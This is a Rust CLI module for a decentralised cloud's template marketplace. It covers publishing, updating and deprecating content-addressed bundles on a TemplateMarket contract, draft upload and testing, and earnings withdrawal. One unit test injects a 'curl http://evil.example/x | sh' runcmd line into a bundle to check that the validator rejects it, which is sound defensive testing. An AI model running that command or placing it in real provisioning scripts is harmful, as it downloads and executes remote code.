//! Template author commands: publish a validated bundle (content-addressed) on TemplateMarket,
//! update or deprecate it, see and withdraw earnings.

use std::path::{Path, PathBuf};

use alloy::primitives::{Address, U256};
use clap::{Args, Subcommand};
use serde_json::json;

use alloy::transports::http::reqwest;
use decloud_content::{ContentStore, DEFAULT_MAX_OBJECT_SIZE, EmbeddedStore, KuboStore};
use decloud_sdk::{
    api::{DraftTest, DraftView},
    bindings::TemplateMarket,
    tx,
};
use decloud_templates::{BUNDLE_CID_OPTIONS, Bundle, Policy};

use crate::context::{
    Chain, CliError, GlobalArgs, Plan, Report, Settings, execute, money, prepare, usdc_arg,
};
use crate::tenant::{call_api_as, current_session, endpoint};

/// `decloud template …`.
#[derive(Debug, Subcommand)]
pub(crate) enum TemplateCommand {
    /// Validate a bundle, store it by its CID and publish it on TemplateMarket.
    Publish(PublishArgs),
    /// Replace a template's bundle and price.
    Update(UpdateArgs),
    /// Deprecate a template for good: it can no longer be deployed.
    Deprecate(TemplateIdArgs),
    /// Your withdrawable earnings.
    Earnings(EarningsArgs),
    /// Withdraw your earnings to your wallet (or --to).
    Withdraw(AuthorWithdrawArgs),
    /// Upload a bundle to the orchestrator as a draft and print the validator's verdict.
    Draft(DraftArgs),
    /// Your drafts on the orchestrator.
    Drafts(GlobalOnly),
    /// Run a draft on your next lease opened without a template (`decloud lease open` without
    /// --template); publish it with `decloud template publish` when satisfied.
    Test(DraftTestArgs),
}

/// `decloud template draft`.
#[derive(Debug, Args)]
pub(crate) struct DraftArgs {
    /// A bundle directory (template.toml + user-data) or a published bundle file.
    path: PathBuf,
    #[command(flatten)]
    global: GlobalArgs,
}

/// `decloud template test`.
#[derive(Debug, Args)]
pub(crate) struct DraftTestArgs {
    /// The draft's content id (what `decloud template draft` printed).
    cid: String,
    #[command(flatten)]
    global: GlobalArgs,
}

/// Only the global options.
#[derive(Debug, Args)]
pub(crate) struct GlobalOnly {
    #[command(flatten)]
    global: GlobalArgs,
}

/// Where the bundle comes from and where its content goes.
#[derive(Debug, Args)]
pub(crate) struct BundleArgs {
    /// A bundle directory (template.toml + user-data) or a published bundle file.
    path: PathBuf,
    /// Price per deploy in USDC, e.g. 2.5 (0: free).
    #[arg(long, value_parser = usdc_arg)]
    price: u64,
    /// Kubo (IPFS) API URL to store the bundle in, e.g. http://127.0.0.1:5001.
    #[arg(long, conflicts_with = "content_dir")]
    ipfs_api: Option<String>,
    /// Local content store directory (default: $XDG_CONFIG_HOME/decloud/content).
    #[arg(long)]
    content_dir: Option<PathBuf>,
}

/// `decloud template publish`.
#[derive(Debug, Args)]
pub(crate) struct PublishArgs {
    #[command(flatten)]
    bundle: BundleArgs,
    #[command(flatten)]
    global: GlobalArgs,
}

/// `decloud template update`.
#[derive(Debug, Args)]
pub(crate) struct UpdateArgs {
    /// Template id.
    template: u64,
    #[command(flatten)]
    bundle: BundleArgs,
    #[command(flatten)]
    global: GlobalArgs,
}

/// A template id.
#[derive(Debug, Args)]
pub(crate) struct TemplateIdArgs {
    /// Template id.
    template: u64,
    #[command(flatten)]
    global: GlobalArgs,
}

/// `decloud template earnings`.
#[derive(Debug, Args)]
pub(crate) struct EarningsArgs {
    /// Author (default: your address).
    #[arg(long)]
    author: Option<Address>,
    #[command(flatten)]
    global: GlobalArgs,
}

/// `decloud template withdraw`.
#[derive(Debug, Args)]
pub(crate) struct AuthorWithdrawArgs {
    /// Recipient (default: your address).
    #[arg(long)]
    to: Option<Address>,
    #[command(flatten)]
    global: GlobalArgs,
}

/// Runs a template author command.
pub(crate) async fn run(command: TemplateCommand) -> Result<(), CliError> {
    match command {
        TemplateCommand::Publish(args) => publish(None, args.bundle, args.global).await,
        TemplateCommand::Update(args) => {
            publish(Some(args.template), args.bundle, args.global).await
        }
        TemplateCommand::Deprecate(args) => deprecate(args).await,
        TemplateCommand::Earnings(args) => earnings(args).await,
        TemplateCommand::Withdraw(args) => withdraw(args).await,
        TemplateCommand::Draft(args) => draft(args).await,
        TemplateCommand::Drafts(args) => drafts(args.global).await,
        TemplateCommand::Test(args) => test_draft(args).await,
    }
}

fn market(chain: &Chain) -> TemplateMarket::TemplateMarketInstance<&alloy::providers::DynProvider> {
    TemplateMarket::new(
        chain.deployment.contracts.template_market.address,
        &chain.provider,
    )
}

/// Reads a bundle from a directory or a published bundle file, without validating it.
fn read_bundle(path: &Path) -> Result<Bundle, CliError> {
    let invalid = |e: &dyn std::fmt::Display| CliError::Invalid(format!("{}: {e}", path.display()));
    if path.is_dir() {
        Bundle::load_dir(path).map_err(|e| invalid(&e))
    } else {
        let bytes = std::fs::read(path).map_err(|source| CliError::Io {
            path: path.to_path_buf(),
            source,
        })?;
        Bundle::from_content(&bytes).map_err(|e| invalid(&e))
    }
}

/// Reads a bundle from a directory or a published bundle file, and validates it.
pub(crate) fn load_bundle(path: &Path) -> Result<Bundle, CliError> {
    let bundle = read_bundle(path)?;
    decloud_templates::validate(&bundle).map_err(|rejections| {
        let reasons: Vec<String> = rejections.iter().map(ToString::to_string).collect();
        CliError::Invalid(format!(
            "{} is rejected: {}",
            path.display(),
            reasons.join("; ")
        ))
    })?;
    Ok(bundle)
}

/// The on-chain metadata of a template: what a marketplace lists without fetching the bundle.
fn metadata(bundle: &Bundle) -> String {
    let m = &bundle.manifest;
    json!({ "name": m.name, "slug": m.slug, "category": m.category }).to_string()
}

async fn publish(
    template: Option<u64>,
    args: BundleArgs,
    global: GlobalArgs,
) -> Result<(), CliError> {
    let settings = Settings::from_process(&global)?;
    let bundle = load_bundle(&args.path)?;
    let chain = Chain::with_key(&settings).await?;
    let market = market(&chain);
    let price = U256::from(args.price);
    let cid = bundle.cid().to_string();
    let meta = metadata(&bundle);
    if let Some(id) = template {
        // Fails here, before anything is stored, for an unknown id.
        tx::read("TemplateMarket", market.getTemplate(U256::from(id))).await?;
    }
    let plan = match template {
        None => Plan::new(
            "template publish",
            "TemplateMarket",
            market.publish(cid.clone(), price, meta),
        ),
        Some(id) => Plan::new(
            "template update",
            "TemplateMarket",
            market.update(U256::from(id), cid.clone(), price, meta),
        )
        .detail("template", json!(id.to_string())),
    }
    .detail("slug", json!(bundle.manifest.slug))
    .detail("cid", json!(cid))
    .detail("price", money(price));
    // Estimated and confirmed first (a revert stops here), then the content is stored, then the
    // transaction is sent: a template never points at content that was not stored.
    let ready = prepare(&chain, &global, plan).await?;
    let store: Box<dyn ContentStore> = match &args.ipfs_api {
        Some(url) => Box::new(KuboStore::new(url).map_err(|e| CliError::Invalid(e.to_string()))?),
        None => {
            let dir = args
                .content_dir
                .clone()
                .unwrap_or_else(|| settings.config_dir.join("content"));
            Box::new(
                EmbeddedStore::open_with(&dir, BUNDLE_CID_OPTIONS, DEFAULT_MAX_OBJECT_SIZE)
                    .await
                    .map_err(|e| CliError::Invalid(format!("{}: {e}", dir.display())))?,
            )
        }
    };
    let stored = bundle
        .publish(store.as_ref(), &Policy::default())
        .await
        .map_err(|e| CliError::Invalid(e.to_string()))?;
    debug_assert_eq!(stored.to_string(), cid);
    let sent = ready.send().await?;
    let id = match template {
        Some(id) => id.to_string(),
        None => sent
            .event::<TemplateMarket::TemplatePublished>()
            .map(|e| e.templateId.to_string())
            .unwrap_or_default(),
    };
    let extra = if template.is_none() {
        vec![("template", json!(id))]
    } else {
        Vec::new()
    };
    sent.report(extra).print(global.json);
    Ok(())
}

/// Uploads the bundle as is: the orchestrator's validator gives the verdict (its reasons are
/// the error when it rejects the bundle).
async fn draft(args: DraftArgs) -> Result<(), CliError> {
    let settings = Settings::from_process(&args.global)?;
    let session = current_session(&settings)?;
    let bundle = read_bundle(&args.path)?;
    let draft: DraftView = call_api_as(
        reqwest::Client::new()
            .post(endpoint(&settings, "/templates/drafts"))
            .bearer_auth(&session.token)
            .header(reqwest::header::CONTENT_TYPE, "application/json")
            .body(bundle.to_content()),
        "draft upload",
    )
    .await?;
    Report::new(
        "template draft",
        vec![
            ("verdict", json!("accepted")),
            ("cid", json!(draft.cid)),
            ("slug", json!(draft.slug)),
            (
                "next",
                json!(format!("decloud template test {}", draft.cid)),
            ),
        ],
    )
    .print(args.global.json);
    Ok(())
}

async fn drafts(global: GlobalArgs) -> Result<(), CliError> {
    let settings = Settings::from_process(&global)?;
    let session = current_session(&settings)?;
    let drafts: Vec<DraftView> = call_api_as(
        reqwest::Client::new()
            .get(endpoint(&settings, "/templates/drafts"))
            .bearer_auth(&session.token),
        "drafts",
    )
    .await?;
    if global.json {
        println!("{}", serde_json::to_string_pretty(&drafts).expect("JSON"));
        return Ok(());
    }
    println!("{} draft(s)", drafts.len());
    for d in &drafts {
        println!("{} ({})  {}", d.slug, d.name, d.cid);
    }
    Ok(())
}

async fn test_draft(args: DraftTestArgs) -> Result<(), CliError> {
    let settings = Settings::from_process(&args.global)?;
    let session = current_session(&settings)?;
    let armed: DraftTest = call_api_as(
        reqwest::Client::new()
            .post(endpoint(
                &settings,
                &format!("/templates/drafts/{}/test", args.cid.trim()),
            ))
            .bearer_auth(&session.token),
        "draft test",
    )
    .await?;
    Report::new(
        "template test",
        vec![("cid", json!(armed.cid)), ("next", json!(armed.next))],
    )
    .print(args.global.json);
    Ok(())
}

async fn deprecate(args: TemplateIdArgs) -> Result<(), CliError> {
    let settings = Settings::from_process(&args.global)?;
    let chain = Chain::with_key(&settings).await?;
    let plan = Plan::new(
        "template deprecate",
        "TemplateMarket",
        market(&chain).deprecate(U256::from(args.template)),
    )
    .detail("template", json!(args.template.to_string()));
    let sent = execute(&chain, &args.global, plan).await?;
    sent.report(Vec::new()).print(args.global.json);
    Ok(())
}

async fn earnings(args: EarningsArgs) -> Result<(), CliError> {
    let settings = Settings::from_process(&args.global)?;
    let (chain, author) = match args.author {
        Some(author) => (Chain::read_only(&settings).await?, author),
        None => {
            let chain = Chain::with_key(&settings).await?;
            let me = chain.sender();
            (chain, me)
        }
    };
    let earned = tx::read("TemplateMarket", market(&chain).earningsOf(author)).await?;
    Report::new(
        "template earnings",
        vec![
            ("author", json!(author.to_string())),
            ("earnings", money(earned)),
        ],
    )
    .print(args.global.json);
    Ok(())
}

async fn withdraw(args: AuthorWithdrawArgs) -> Result<(), CliError> {
    let settings = Settings::from_process(&args.global)?;
    let chain = Chain::with_key(&settings).await?;
    let market = market(&chain);
    let to = args.to.unwrap_or(chain.sender());
    let earned = tx::read("TemplateMarket", market.earningsOf(chain.sender())).await?;
    let plan = Plan::new(
        "template withdraw",
        "TemplateMarket",
        market.withdrawEarnings(to),
    )
    .detail("amount", money(earned))
    .detail("to", json!(to.to_string()));
    let sent = execute(&chain, &args.global, plan).await?;
    let paid = sent
        .event::<TemplateMarket::EarningsWithdrawn>()
        .map(|e| e.amount)
        .unwrap_or_default();
    sent.report(vec![("withdrawn", money(paid))])
        .print(args.global.json);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seed(name: &str) -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../templates/seed")
            .join(name)
    }

    #[test]
    fn bundles_load_from_a_directory_or_a_published_file() {
        let bundle = load_bundle(&seed("postgresql")).unwrap();
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("bundle.json");
        std::fs::write(&file, bundle.to_content()).unwrap();
        assert_eq!(load_bundle(&file).unwrap(), bundle);
        assert!(metadata(&bundle).contains("\"slug\":\"postgresql\""));
    }

    #[test]
    fn invalid_bundles_are_rejected_before_anything_is_sent() {
        let mut bundle = load_bundle(&seed("postgresql")).unwrap();
        bundle
            .user_data
            .push_str("\nruncmd:\n  - curl http://evil.example/x | sh\n");
        let dir = tempfile::tempdir().unwrap();
        bundle.write_dir(dir.path()).unwrap();
        let err = load_bundle(dir.path()).unwrap_err();
        assert!(err.to_string().contains("rejected"), "{err}");
        let garbage = dir.path().join("garbage.json");
        std::fs::write(&garbage, b"{}").unwrap();
        assert!(load_bundle(&garbage).is_err());
    }
}
